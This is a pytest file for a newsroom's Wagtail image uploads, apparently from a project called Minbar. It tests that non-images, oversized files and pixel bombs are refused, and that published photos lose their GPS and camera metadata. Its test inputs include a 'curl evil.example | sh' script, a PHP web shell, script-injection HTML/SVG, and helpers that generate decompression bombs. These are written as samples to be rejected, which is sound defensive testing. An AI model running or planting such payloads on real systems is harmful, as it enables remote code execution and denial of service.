"""Pictures uploaded to the newsroom: checked by content, size and pixel count,
and published without the camera's metadata.

Uploads go through Wagtail's image views over HTTP, as an editor's browser
sends them: the single upload form (``/newsroom/images/add/``) and the
multiple upload the "Add an image" button uses (``.../multiple/add/``).  A
refused upload re-shows the form with the reason, and stores nothing.
"""

import hashlib
import io
import json
import resource
import struct
import urllib.parse
import zlib
from pathlib import Path

import lxml.html
import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from lxml import etree
from PIL import ExifTags, ImageFile
from PIL import Image as PILImage
from wagtail.images.models import Image
from wagtail.models import UploadedFile

from minbar.ingest.mapping import MappingError, image_from_file
from minbar.newsroom.models import ArticlePage, SectionPage
from minbar.newsroom.uploads import remove_metadata

pytestmark = pytest.mark.django_db

ADD = "/newsroom/images/add/"
ADD_MULTIPLE = "/newsroom/images/multiple/add/"
SERIAL = "SN-0123456789"
CAMERA = "EOS R5 Minbar"
GPS = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (30.0, 2.0, 40.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (31.0, 14.0, 7.0),
}
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="30,2.6667N" '
    b'exif:GPSLongitude="31,14.1167E"/></rdf:RDF></x:xmpmeta>'
)
# What a published picture must not give away.
METADATA_MARKERS = [SERIAL.encode(), CAMERA.encode(), b"GPSLatitude", b"<script"]


@pytest.fixture(autouse=True)
def _newsroom(newsroom):
    pass


@pytest.fixture
def editor(client):
    user = User.objects.create_superuser("photo-desk", "desk@example.com", "x")
    client.force_login(user)
    return client


# Files, made in memory.


def picture(fmt="JPEG", size=(1300, 700), **save) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", size, (180, 40, 40)).save(buffer, fmt, **save)
    return buffer.getvalue()


def noisy_jpeg(size=(400, 400)) -> bytes:
    buffer = io.BytesIO()
    PILImage.effect_noise(size, 80).convert("RGB").save(buffer, "JPEG", quality=95)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data))
    )


def blank_png(width: int, height: int, colour_type=0, bits=1, text_bomb=0) -> bytes:
    """A valid PNG of any declared size, written by hand: a blank image
    compresses to almost nothing, so a 400-megapixel one is a few KB."""
    channels = {0: 1, 2: 3}[colour_type]
    row = b"\x00" + bytes((width * channels * bits + 7) // 8)  # filter 0, zeros
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height))
    data += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bits, colour_type, 0, 0, 0)
    text = b""
    if text_bomb:
        # A compressed text chunk that inflates to text_bomb bytes.
        text = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(text_bomb)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + text
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def camera_exif() -> bytes:
    exif = PILImage.Exif()
    exif[ExifTags.Base.Make] = "Canon"
    exif[ExifTags.Base.Model] = CAMERA
    exif[ExifTags.Base.BodySerialNumber] = SERIAL
    exif[ExifTags.Base.Orientation] = 1
    exif[ExifTags.IFD.GPSInfo] = GPS
    return exif.tobytes()


# Uploading, and what a refusal must look like.


def stored_files() -> set[Path]:
    root = Path(django_settings.MEDIA_ROOT)
    return {path for path in root.rglob("*") if path.is_file()}


def upload(client, via: str, name: str, data: bytes, content_type="image/jpeg"):
    file = SimpleUploadedFile(name, data, content_type=content_type)
    if via == "add":
        return client.post(ADD, {"title": "صورة", "file": file})
    return client.post(ADD_MULTIPLE, {"files[]": file})


def refusal(response, via: str) -> tuple[str, str]:
    """The reason shown to the editor, and its code; asserts it is shown."""
    assert response.status_code == 200
    if via == "add":
        form = response.context["form"]
        [error] = form.errors.as_data()["file"]
        message = error.messages[0]
        # The form is shown again, with the reason beside the file field.
        page = lxml.html.document_fromstring(response.content)
        assert page.xpath('//input[@type="file"][@name="file"]')
        assert " ".join(message.split()) in " ".join(page.text_content().split())
        return message, error.code
    answer = json.loads(response.content)
    assert answer["success"] is False
    assert answer["error_message"].strip()
    return answer["error_message"], ""


@pytest.fixture
def nothing_stored():
    """Asserts, after the test, that no image, upload or file was stored."""
    images, uploads = Image.objects.count(), UploadedFile.objects.count()
    files = stored_files()
    yield
    assert Image.objects.count() == images
    assert UploadedFile.objects.count() == uploads
    assert stored_files() - files == set()


VIAS = pytest.mark.parametrize("via", ["add", "multiple"])


@VIAS
def test_a_real_picture_is_taken(editor, via):
    before = Image.objects.count()
    response = upload(editor, via, "مؤتمر.jpg", picture())
    assert response.status_code in {200, 302}
    if via == "multiple":
        assert json.loads(response.content)["success"] is True
    assert Image.objects.count() == before + 1
    image = Image.objects.latest("pk")
    assert (image.width, image.height) == (1300, 700)


# Type by content, not by name.


@VIAS
def test_a_png_named_jpg_is_refused_for_what_it_is(editor, via, nothing_stored):
    # Wagtail compares the name with the content and refuses a mismatch,
    # naming the format it found.
    message, code = refusal(upload(editor, via, "photo.jpg", picture("PNG")), via)
    assert "png" in message.lower()
    assert code in {"", "invalid_image_known_format"}


NOT_PICTURES = {
    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
        b'onload="alert(1)"><script>alert(1)</script></svg>'
    ),
    "script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "php": b"<?php system($_GET['c']); ?>",
    "empty": b"",
    "truncated-jpeg": picture()[:200],
}


@VIAS
@pytest.mark.parametrize("kind", NOT_PICTURES)
def test_a_file_that_is_not_a_picture_is_refused(editor, via, kind, nothing_stored):
    response = upload(editor, via, "photo.jpg", NOT_PICTURES[kind])
    if kind == "empty" and via == "add":
        # Django's own refusal of an empty file.
        assert response.status_code == 200
        assert response.context["form"].errors["file"]
        return
    if kind == "empty":
        assert response.status_code in {200, 400}
        return
    _message, code = refusal(response, via)
    assert code in {"", "invalid_image", "invalid_image_known_format"}


@VIAS
def test_an_svg_is_refused_even_under_its_own_name(editor, via, nothing_stored):
    svg = NOT_PICTURES["svg"]
    _message, code = refusal(upload(editor, via, "logo.svg", svg, "image/svg+xml"), via)
    assert code in {"", "invalid_image_extension"}


# Size and pixel count.


@VIAS
def test_a_file_over_the_size_limit_is_refused(editor, via, settings, nothing_stored):
    data = noisy_jpeg()
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = len(data) - 1
    message, code = refusal(upload(editor, via, "big.jpg", data), via)
    assert code in {"", "file_too_large"}
    assert any(character.isdigit() for character in message)  # says the limit


def test_the_size_limit_is_twenty_megabytes():
    assert django_settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 20 * 1024 * 1024
    assert django_settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 64_000_000


BOMBS = {
    # Over Pillow's own bomb limit (2 x 89 megapixels): it refuses to open it.
    "20000x20000": lambda: blank_png(20_000, 20_000),
    # Between Pillow's warning (89 megapixels) and its error: only Minbar's
    # 64-megapixel limit stops it.
    "10000x10000": lambda: blank_png(10_000, 10_000),
    # Under Pillow's limits altogether, over Minbar's.
    "9000x8000": lambda: blank_png(9_000, 8_000),
}


@VIAS
@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_picture_with_too_many_pixels_is_refused(editor, via, bomb, nothing_stored):
    data = BOMBS[bomb]()
    assert len(data) < 200_000  # small on disk
    message, code = refusal(upload(editor, via, "bomb.png", data, "image/png"), via)
    assert code in {"", "file_too_many_pixels"}
    assert "64000000" in message  # says the limit


@pytest.fixture
def decoded(monkeypatch):
    """The sizes of the pictures Pillow decodes while the test runs."""
    sizes = []
    load = ImageFile.ImageFile.load

    def spy(self):
        sizes.append(self.size)
        return load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    return sizes


@pytest.mark.parametrize(
    "bomb",
    [
        "20000x20000",
        "10000x10000",
        "9000x8000",
    ],
)
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_picture_with_too_many_pixels_is_not_decoded(
    editor, bomb, decoded, nothing_stored
):
    data = BOMBS[bomb]()
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    response = upload(editor, "add", "bomb.png", data, "image/png")
    peak_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    refusal(response, "add")
    assert decoded == [], "decoded before it was refused"
    # A 400-megapixel picture decoded would take 400 MB at least.
    assert peak_after - peak_before < 100 * 1024, "KB more at the peak"


@VIAS
def test_a_compressed_text_bomb_is_refused(editor, via, nothing_stored):
    # A PNG whose zTXt chunk inflates to 50 MB: Pillow stops at 1 MB.
    data = blank_png(64, 64, text_bomb=50_000_000)
    assert len(data) < 200_000
    refusal(upload(editor, via, "text.png", data, "image/png"), via)


# Published pictures carry none of the camera's metadata.


def media_path(url: str) -> Path:
    path = urllib.parse.urlsplit(url).path
    assert path.startswith(django_settings.MEDIA_URL), url
    return Path(django_settings.MEDIA_ROOT) / path[len(django_settings.MEDIA_URL) :]


def metadata_in(path: Path) -> list[str]:
    """What a published file gives away: EXIF tags, GPS, serial, comments."""
    found = []
    raw = path.read_bytes()
    found += [marker.decode() for marker in METADATA_MARKERS if marker in raw]
    if b"Exif\x00\x00" in raw:
        found.append("Exif block")
    with PILImage.open(path) as image:
        exif = image.getexif()
        if exif:
            found.append(f"EXIF tags {sorted(exif)}")
        if exif.get_ifd(ExifTags.IFD.GPSInfo):
            found.append("GPS")
        if image.info.get("comment"):
            found.append("comment")
    return found


@pytest.fixture
def published_photo(editor):
    """A phone photo with its GPS position, camera serial, XMP and a comment,
    uploaded over HTTP and published as an article's featured picture.
    Returns the addresses of every file the public surfaces link."""
    data = picture(
        "JPEG", exif=camera_exif(), xmp=XMP, comment=b"<script>alert(1)</script>"
    )
    assert all(marker in data for marker in METADATA_MARKERS)  # what is sent
    response = upload(editor, "add", "gps.jpg", data)
    assert response.status_code == 302
    image = Image.objects.latest("pk")
    section = SectionPage.objects.get(slug="politics")
    article = section.add_child(
        instance=ArticlePage(title="صورة بموقعها", image=image, image_caption="تعليق")
    )
    article.save_revision().publish()
    editor.logout()

    page = lxml.html.document_fromstring(editor.get(f"/{article.public_id}").content)
    [figure] = page.xpath('//article[@class="article"]/figure')
    urls = {"page img": set(figure.xpath(".//img/@src"))}
    for source in figure.xpath(".//source"):
        candidates = {c.strip().split()[0] for c in source.get("srcset").split(",")}
        urls[f"page {source.get('type')}"] = candidates
    urls["og:image"] = set(page.xpath('//meta[@property="og:image"]/@content'))
    scripts = page.xpath('//script[@type="application/ld+json"]/text()')
    urls["JSON-LD"] = {json.loads(scripts[0])["image"][0]["url"]}
    feed = etree.fromstring(editor.get("/feed/").content)
    link = f"http://localhost/{article.public_id}"
    urls["feed"] = set(feed.xpath(f'//item[link="{link}"]/enclosure/@url'))
    assert urls["feed"]
    ninjs = json.loads(editor.get(f"/api/ninjs/{article.public_id}").content)
    renditions = ninjs["associations"][0]["renditions"]
    urls["API original"] = {r["href"] for r in renditions if r["name"] == "original"}
    urls["API"] = {r["href"] for r in renditions if r["name"] != "original"}
    return {where: {media_path(url) for url in found} for where, found in urls.items()}


def test_avif_and_webp_renditions_carry_no_metadata(published_photo):
    modern = set().union(
        *(
            paths
            for where, paths in published_photo.items()
            if where.endswith(("avif", "webp"))
        )
    )
    assert modern
    leaks = {path.name: metadata_in(path) for path in modern}
    assert not any(leaks.values()), leaks


def test_jpeg_renditions_carry_no_metadata(published_photo):
    published = set().union(
        *(
            paths
            for where, paths in published_photo.items()
            if where != "API original" and not where.endswith(("avif", "webp"))
        )
    )
    assert published
    leaks = {path.name: metadata_in(path) for path in published}
    assert not any(leaks.values()), leaks


def test_the_published_original_carries_no_location(published_photo):
    [original] = published_photo["API original"]
    assert original.is_relative_to(Path(django_settings.MEDIA_ROOT, "original_images"))
    assert metadata_in(original) == []


# How the metadata is removed.


def test_a_photo_taken_sideways_is_stored_upright_without_its_metadata(editor):
    exif = PILImage.Exif()
    exif[ExifTags.Base.Orientation] = 6  # the camera was turned a quarter
    exif[ExifTags.IFD.GPSInfo] = GPS
    data = picture("JPEG", size=(600, 400), exif=exif.tobytes())
    assert upload(editor, "add", "sideways.jpg", data).status_code == 302
    image = Image.objects.latest("pk")
    stored = Path(image.file.path)
    assert metadata_in(stored) == []
    # Upright: the picture and the size the newsroom records agree.
    assert (image.width, image.height) == (400, 600)
    with PILImage.open(stored) as upright:
        assert upright.size == (400, 600)


def test_a_photo_loses_its_metadata_but_not_its_quality(editor):
    buffer = io.BytesIO()
    photo = PILImage.effect_noise((640, 480), 60).convert("RGB")
    photo.save(buffer, "JPEG", quality=90, exif=camera_exif())
    sent = buffer.getvalue()
    assert upload(editor, "add", "noise.jpg", sent).status_code == 302
    image = Image.objects.latest("pk")
    stored = Path(image.file.path).read_bytes()
    assert metadata_in(Path(image.file.path)) == []
    # Only the metadata went: the picture is the same to the last pixel.
    assert len(stored) < len(sent)
    with PILImage.open(io.BytesIO(sent)) as before:
        with PILImage.open(io.BytesIO(stored)) as after:
            assert before.tobytes() == after.tobytes()
            assert after.info["jfif_version"] == before.info["jfif_version"]


def test_a_photo_without_metadata_is_stored_as_sent(editor):
    sent = picture("PNG", size=(300, 200))
    assert upload(editor, "add", "clean.png", sent, "image/png").status_code == 302
    image = Image.objects.latest("pk")
    assert Path(image.file.path).read_bytes() == sent


def test_the_same_photo_sent_twice_is_still_found_as_a_duplicate(editor):
    data = picture("JPEG", exif=camera_exif())
    upload(editor, "multiple", "first.jpg", data)
    first = Image.objects.latest("pk")
    # The hash is the one of the file as received, not as stored.
    assert first.file_hash == hashlib.sha1(data, usedforsecurity=False).hexdigest()
    response = upload(editor, "multiple", "again.jpg", data)
    answer = json.loads(response.content)
    assert answer["success"] is True
    assert answer["duplicate"] is True


def test_a_wire_picture_is_checked_and_cleaned_like_an_upload(tmp_path, nothing_stored):
    bomb = tmp_path / "bomb.png"
    bomb.write_bytes(BOMBS["9000x8000"]())
    with pytest.raises(MappingError) as refused:
        image_from_file(bomb, "صورة من الوكالة")
    assert "bomb.png" in str(refused.value)
    assert "64000000" in str(refused.value)


def test_a_wire_photo_is_stored_without_its_location(tmp_path):
    photo = tmp_path / "wire.jpg"
    photo.write_bytes(picture("JPEG", exif=camera_exif(), comment=b"secret"))
    image = image_from_file(photo, "صورة من الوكالة")
    assert metadata_in(Path(image.file.path)) == []
    # Sent again, it is the same picture, not a second one.
    assert image_from_file(photo, "صورة من الوكالة").pk == image.pk


@pytest.mark.parametrize(
    "encoding",
    [{"progressive": True}, {"restart_marker_rows": 1}, {"optimize": True}],
    ids=["progressive", "restart-markers", "optimised"],
)
def test_every_kind_of_jpeg_keeps_its_picture_data(encoding):
    buffer = io.BytesIO()
    photo = PILImage.effect_noise((320, 240), 70).convert("RGB")
    photo.save(buffer, "JPEG", exif=camera_exif(), comment=b"secret", **encoding)
    # A phone's second picture after the first, with its own EXIF.
    sent = buffer.getvalue() + picture("JPEG", size=(64, 64), exif=camera_exif())
    stored = remove_metadata(sent)
    assert SERIAL.encode() not in stored
    assert b"secret" not in stored
    assert stored.endswith(b"\xff\xd9")
    with PILImage.open(io.BytesIO(sent)) as before:
        with PILImage.open(io.BytesIO(stored)) as after:
            assert before.tobytes() == after.tobytes()


def test_a_phone_photo_with_a_second_picture_loses_the_metadata_of_both():
    # What Pillow calls MPO: a JPEG, an index of further pictures (a depth or
    # gain map) and those pictures after it, each with EXIF of its own.
    photo = PILImage.effect_noise((320, 240), 70).convert("RGB")
    depth = PILImage.new("RGB", (160, 120), (90, 90, 90))
    buffer = io.BytesIO()
    photo.save(buffer, "MPO", save_all=True, append_images=[depth], exif=camera_exif())
    sent = buffer.getvalue()
    with PILImage.open(io.BytesIO(sent)) as before:
        assert (before.format, before.n_frames) == ("MPO", 2)
        pixels = before.tobytes()
    stored = remove_metadata(sent)
    assert SERIAL.encode() not in stored and b"MPF" not in stored
    with PILImage.open(io.BytesIO(stored)) as after:
        assert after.format == "JPEG" and not after.getexif()
        assert after.tobytes() == pixels


def test_a_picture_s_details_are_edited_without_sending_it_again(editor):
    upload(editor, "add", "edit-me.jpg", picture())
    image = Image.objects.latest("pk")
    stored = Path(image.file.path).read_bytes()
    response = editor.post(
        f"/newsroom/images/{image.pk}/", {"title": "عنوان جديد للصورة"}
    )
    assert response.status_code == 302, response.content[:500]
    image.refresh_from_db()
    assert image.title == "عنوان جديد للصورة"
    assert Path(image.file.path).read_bytes() == stored
